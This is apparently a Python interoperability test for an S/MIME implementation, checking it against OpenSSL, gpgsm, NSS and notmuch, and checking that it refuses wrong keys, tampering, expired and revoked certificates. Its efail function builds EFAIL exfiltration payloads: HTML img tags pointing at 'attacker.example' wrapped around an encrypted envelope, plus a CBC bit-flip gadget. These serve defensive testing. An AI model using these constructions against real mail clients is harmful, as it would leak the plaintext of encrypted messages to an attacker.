"""S/MIME with programs that others wrote: what we seal they open, what they seal we open.

    peers/smime.py --binary target/debug/examples/smime

OpenSSL, GnuPG's gpgsm and Mozilla's NSS read and write beside the example of the crate `seal`; notmuch reads
a protected subject. Wrong keys, changed content, dates, revocation and the constructions of EFAIL must fail as
they should. What a peer cannot do is counted as such, and only where it is known here that it cannot.
"""

import argparse
import datetime
import json
import os
import subprocess
import sys
from pathlib import Path

from mail import cms, trial
from mail.cms import Refused, bare, beside, halves, wrapped

LETTER = "Content-Type: text/plain; charset=utf-8\r\n\r\nThe result — as promised.\r\n".encode()
MESSAGE = (b"From: p256@mail.example\r\nTo: rsa2048@mail.example\r\nSubject: Biopsy of the left lung\r\n"
           b"Message-ID: <sealed@mail.example>\r\nDate: Sun, 22 Nov 2026 12:00:00 +0000\r\n"
           b"Content-Type: text/plain\r\n\r\nDear Pat\r\n")


class Trials:
    """Counts what held, and says what did not."""

    def __init__(self):
        self.faults, self.held, self.unable = [], {}, {}

    def try_(self, peer: str, what: str, work, *, like=None) -> None:
        """`like` is the same with what OpenSSL made: who refuses that too cannot do it at all."""
        try:
            fault = work()
        except Refused as refusal:
            if like is not None and is_refused(like):
                self.unable.setdefault(peer, []).append(what)
                return
            fault = str(refusal)
        if fault:
            self.faults.append(f"{peer}: {what}: {fault}")
        else:
            self.held[peer] = self.held.get(peer, 0) + 1


def is_refused(work) -> bool:
    try:
        work()
    except Refused:
        return True
    return False


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--binary", default="target/debug/examples/smime")
    asked = parser.parse_args()
    return trial.hold("smime", lambda folder, stops: play(asked.binary, folder, stops))


def play(binary: str, folder: Path, stops: list) -> list[str]:
    authority = cms.Authority(folder / "authority")
    people = [authority.issue(kind, kind) for kind in cms.KINDS]
    place = Place(cms.Ours(binary, folder), authority, people, folder)
    trials = Trials()
    openssl = cms.OpenSsl(folder, authority.root)
    with_openssl(trials, place, openssl)
    gpgsm = cms.Gpgsm(folder, authority.root, people)
    stops.append(gpgsm.stop)
    with_gpgsm(trials, place, gpgsm, openssl)
    with_nss(trials, place, cms.Nss(folder, authority.root, people), openssl)
    with_notmuch(trials, place, gpgsm)
    refusals(trials, place)
    print(json.dumps({"held": trials.held, "unable": trials.unable, "faults": len(trials.faults)}, indent=2))
    return trials.faults


class Place:
    def __init__(self, ours, authority, people, folder):
        self.ours, self.authority, self.people, self.folder = ours, authority, people, folder
        self.now = datetime.datetime.now(datetime.UTC).strftime("%Y-%m-%dT%H:%M:%SZ")

    def encrypted(self, cipher: str, person) -> bytes:
        self.ours("encrypt", cipher, "IN", "OUT", person.certificate, content=LETTER)
        return self.ours.written

    def signed(self, person) -> bytes:
        self.ours("sign", self.now, person.identity, "IN", "OUT", content=LETTER)
        return self.ours.written

    def opens(self, entity: bytes, person, integrity: str) -> str | None:
        said = self.ours("decrypt", person.identity, "IN", "OUT", content=entity)
        return same(said, integrity) or same(self.ours.written, LETTER)

    def believes(self, entity: bytes) -> str | None:
        said = self.ours("verify", self.now, self.authority.root, "-", "IN", "OUT", content=entity)
        return same(said, "good trusted") or same(self.ours.written, LETTER)


def same(found, expected) -> str | None:
    return None if found == expected else f"{found!r}, not {expected!r}"


def with_openssl(trials: Trials, place: Place, openssl: cms.OpenSsl) -> None:
    def check(what, work):
        trials.try_("openssl", what, work)

    for person in place.people:
        is_rsa = person.name.startswith("rsa")
        for cipher, theirs, integrity in [("cbc", "aes-256-cbc", "none"), ("gcm", "aes-256-gcm", "authenticated")]:
            check(f"opens our {cipher} to {person.name}",
                  lambda: same(openssl.decrypt(place.encrypted(cipher, person), person), LETTER))
            check(f"its {cipher} to {person.name}",
                  lambda: place.opens(openssl.encrypt(LETTER, [person], theirs), person, integrity))
        check(f"its 3DES to {person.name}",
              lambda: place.opens(openssl.encrypt(LETTER, [person], "des-ede3-cbc"), person, "none"))
        check(f"its envelope by key id to {person.name}",
              lambda: place.opens(openssl.encrypt(LETTER, [person], "aes-128-cbc", "-keyid"), person, "none"))
        check(f"believes our signature of {person.name}", lambda: same(openssl.verify(place.signed(person)), LETTER.replace(b"\r\n", b"\n")))
        for form in [[], ["-nodetach"], ["-keyid"], ["-noattr"], ["-md", "sha512"]] + (
                [["-keyopt", "rsa_padding_mode:pss"]] if is_rsa else []):
            check(f"its signature of {person.name} {form}",
                  lambda: place.believes(openssl.sign(LETTER, person, *form)))
        if is_rsa:
            check(f"opens our OAEP to {person.name}",
                  lambda: same(openssl.decrypt(place.encrypted("oaep", person), person), LETTER))
            oaep = ["-recip", person.certificate, "-keyopt", "rsa_padding_mode:oaep", "-keyopt", "rsa_oaep_md:sha256"]
            check(f"its OAEP to {person.name}",
                  lambda: place.opens(openssl.encrypt(LETTER, [], "aes-256-cbc", *oaep), person, "none"))
    everyone = openssl.encrypt(LETTER, place.people, "aes-256-cbc")
    for person in place.people:
        check(f"its envelope to everyone, opened by {person.name}", lambda: place.opens(everyone, person, "none"))


def with_gpgsm(trials: Trials, place: Place, gpgsm: cms.Gpgsm, openssl: cms.OpenSsl) -> None:
    def check(what, work, like=None):
        trials.try_("gpgsm", what, work, like=like)

    for person in place.people:
        is_rsa, has_key = person.name.startswith("rsa"), person.name in gpgsm.imported
        # GnuPG 2.2 takes no key of a curve from PKCS#12, and encrypts to none whose usage is agreement
        check(f"its envelope to {person.name}",
              lambda: place.opens(gpgsm_entity(gpgsm.encrypt(LETTER, person)), person, "none"),
              like=None if is_rsa else lambda: gpgsm.encrypt(LETTER, person))
        check(f"believes our signature of {person.name}", lambda: gpgsm.verify(*halves(place.signed(person))))
        if not has_key:
            trials.unable.setdefault("gpgsm", []).append(f"import of the key of {person.name}")
            if is_rsa:
                trials.faults.append(f"gpgsm: has no key of {person.name}")
            continue
        oaep = ["-recip", person.certificate, "-keyopt", "rsa_padding_mode:oaep"]
        for cipher, theirs in [("cbc", None), ("gcm", lambda: openssl.encrypt(LETTER, [person], "aes-256-gcm")),
                               ("oaep", lambda: openssl.encrypt(LETTER, [], "aes-256-cbc", *oaep))]:
            check(f"opens our {cipher} to {person.name}",
                  lambda: same(gpgsm.decrypt(bare(place.encrypted(cipher, person))), LETTER),
                  like=theirs and (lambda: gpgsm.decrypt(bare(theirs()))))
        check(f"its signature of {person.name}", lambda: place.believes(wrapped(gpgsm.sign(LETTER, person), "signed-data")))
        check(f"its detached signature of {person.name}",
              lambda: place.believes(beside(LETTER, gpgsm.sign(LETTER, person, "--detach-sign"))))


def gpgsm_entity(armored: bytes) -> bytes:
    """Its armour is base64 between two lines."""
    lines = armored.decode().split("-----")[2]
    head = "Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    return (head + lines.strip().replace("\n", "\r\n") + "\r\n").encode()


def with_nss(trials: Trials, place: Place, nss: cms.Nss, openssl: cms.OpenSsl) -> None:
    def check(what, work, like=None):
        trials.try_("nss", what, work, like=like)

    for person in place.people:
        is_rsa = person.name.startswith("rsa")
        # NSS 3.87 agrees on no keys of curves in CMS, and of GCM there it knows nothing
        for cipher, theirs in [("cbc", "aes-256-cbc"), ("gcm", "aes-256-gcm")]:
            check(f"opens our {cipher} to {person.name}",
                  lambda: same(nss.decrypt(bare(place.encrypted(cipher, person))), LETTER),
                  like=None if (is_rsa and cipher == "cbc")
                  else lambda: nss.decrypt(bare(openssl.encrypt(LETTER, [person], theirs))))
        check(f"its envelope to {person.name}",
              lambda: place.opens(wrapped(nss.encrypt(LETTER, person), "enveloped-data"), person, "none"),
              like=None if is_rsa else lambda: nss.encrypt(LETTER, person))
        check(f"believes our signature of {person.name}",
              lambda: nss.verify(*halves(place.signed(person))) and None)
        check(f"its signature of {person.name}", lambda: place.believes(wrapped(nss.sign(LETTER, person), "signed-data")))


def with_notmuch(trials: Trials, place: Place, gpgsm: cms.Gpgsm) -> None:
    """An independent reader of protected subjects. It knows the older convention, whose mark we set beside
    that of RFC 9788."""
    author, reader = place.people[2], place.people[0]
    for signer in ["-", author.identity]:
        def work(signer=signer):
            place.ours("seal", place.now, "cbc", "Secure message", signer, "IN", "OUT", reader.certificate, content=MESSAGE)
            shown = notmuch(place.folder / f"notmuch-{signer != '-'}", place.ours.written, gpgsm.home)
            if b"Biopsy" in place.ours.written:
                return "the subject stands outside"
            return same(shown, "Biopsy of the left lung")
        trials.try_("notmuch", "reads our protected subject" + (" of a signed message" if signer != "-" else ""), work)
        sealed = place.ours.written
        said = place.ours("open", place.now, place.authority.root, reader.identity, "IN", "OUT", content=sealed)
        who = "signed cipher; good trusted" if signer != "-" else "none cipher; unsigned"
        trials.try_("ours", "opens it", lambda: same(said, f"{who}; conflicts []; Biopsy of the left lung"))


def notmuch(folder: Path, message: bytes, home: Path) -> str:
    for name in ("cur", "new", "tmp"):
        (folder / "mail" / name).mkdir(parents=True)
    (folder / "mail" / "cur" / "1:2,").write_bytes(message.replace(b"\r\n", b"\n"))
    config = folder / "config"
    config.write_text(f"[database]\npath={folder}/mail\n[user]\nname=Pat\nprimary_email=rsa2048@mail.example\n")
    words = {**os.environ, "NOTMUCH_CONFIG": str(config), "GNUPGHOME": str(home)}
    subprocess.run(["notmuch", "new", "--quiet"], env=words, check=True, capture_output=True, timeout=60)
    done = subprocess.run(["notmuch", "show", "--decrypt=true", "--format=json", "id:sealed@mail.example"],
                          env=words, capture_output=True, timeout=60, check=True)
    shown = json.loads(done.stdout)
    while isinstance(shown, list):
        shown = shown[0]
    return shown["headers"]["Subject"]


def refusals(trials: Trials, place: Place) -> None:
    """What must not open, or must not be believed."""
    ours, reader, stranger = place.ours, place.people[0], place.people[2]

    def check(what, work):
        trials.try_("refusals", what, work)

    def verdict(entity, at=place.now, lists="-"):
        return ours("verify", at, place.authority.root, lists, "IN", "OUT", content=entity)

    sealed = place.encrypted("cbc", reader)
    check("another's key", lambda: same(ours("decrypt", stranger.identity, "IN", "OUT", content=sealed),
                                        "error smime_not_for_us"))
    authentic = place.encrypted("gcm", reader).rstrip()
    changed = authentic[:-6] + (b"AAAA" if authentic[-6:-2] != b"AAAA" else b"BBBB") + authentic[-2:]
    check("a changed envelope", lambda: same(ours("decrypt", reader.identity, "IN", "OUT", content=changed),
                                             "error smime_damaged"))
    check("nothing of it is written", lambda: same(ours.written, b""))
    signed = place.signed(stranger)
    check("changed content", lambda: same(verdict(signed.replace(b"promised", b"expected")), "tampered trusted"))
    check("an unknown root", lambda: same(
        ours("verify", place.now, stranger.certificate, "-", "IN", "OUT", content=place.signed(reader)),
        "good untrusted(unknownissuer)"))
    day = datetime.timedelta(days=1)
    now = datetime.datetime.now(datetime.UTC)
    stamp = "%Y%m%d%H%M%SZ"
    over = place.authority.issue("over", "p256", dates=((now - 9 * day).strftime(stamp), (now - day).strftime(stamp)))
    check("a certificate that is over", lambda: same(verdict(place.signed(over)), "good expired"))
    lost = place.authority.issue("lost", "p256")
    place.authority.revoke(lost)
    place.authority.publish()
    later = (now + day).strftime("%Y-%m-%dT%H:%M:%SZ")
    by_lost = place.signed(lost)
    check("one not on the list", lambda: same(verdict(signed, later, place.authority.lists), "good trusted"))
    check("a revoked one", lambda: same(verdict(by_lost, later, place.authority.lists), "good revoked"))
    efail(check, place, sealed, reader)
    check("what is learnt from signed mail", lambda: same(ours("harvest", "IN", content=signed), "p256@mail.example gcm=true"))


def efail(check, place: Place, sealed: bytes, reader) -> None:
    """The constructions of the EFAIL paper: an image whose address would be the text, around the envelope."""
    image = b"--b\r\nContent-Type: text/html\r\n\r\n<img src='http://attacker.example/"
    end = b"\r\n--b\r\nContent-Type: text/html\r\n\r\n'>\r\n--b--\r\n"
    for kind in ("mixed", "related", "alternative"):
        head = f"Content-Type: multipart/{kind}; boundary=b\r\n\r\n".encode()
        around = head + image + b"\r\n--b\r\n" + sealed + end
        for verb in (["decrypt", reader.identity], ["open", place.now, place.authority.root, reader.identity]):
            check(f"EFAIL {kind}, {verb[0]}",
                  lambda: same(place.ours(*verb, "IN", "OUT", content=around), "error smime_mixed"))
            check("nothing of it is written", lambda: same(place.ours.written, b""))
    # the gadget: blocks exchanged inside CBC. It may open to noise, and then nothing vouches for it.
    octets = bytearray(bare(sealed))
    octets[-40] ^= 1
    said = place.ours("decrypt", reader.identity, "IN", "OUT", content=wrapped(bytes(octets), "enveloped-data"))
    check("EFAIL gadget", lambda: None if said in ("none", "error smime_damaged") else said)


if __name__ == "__main__":
    sys.exit(main())
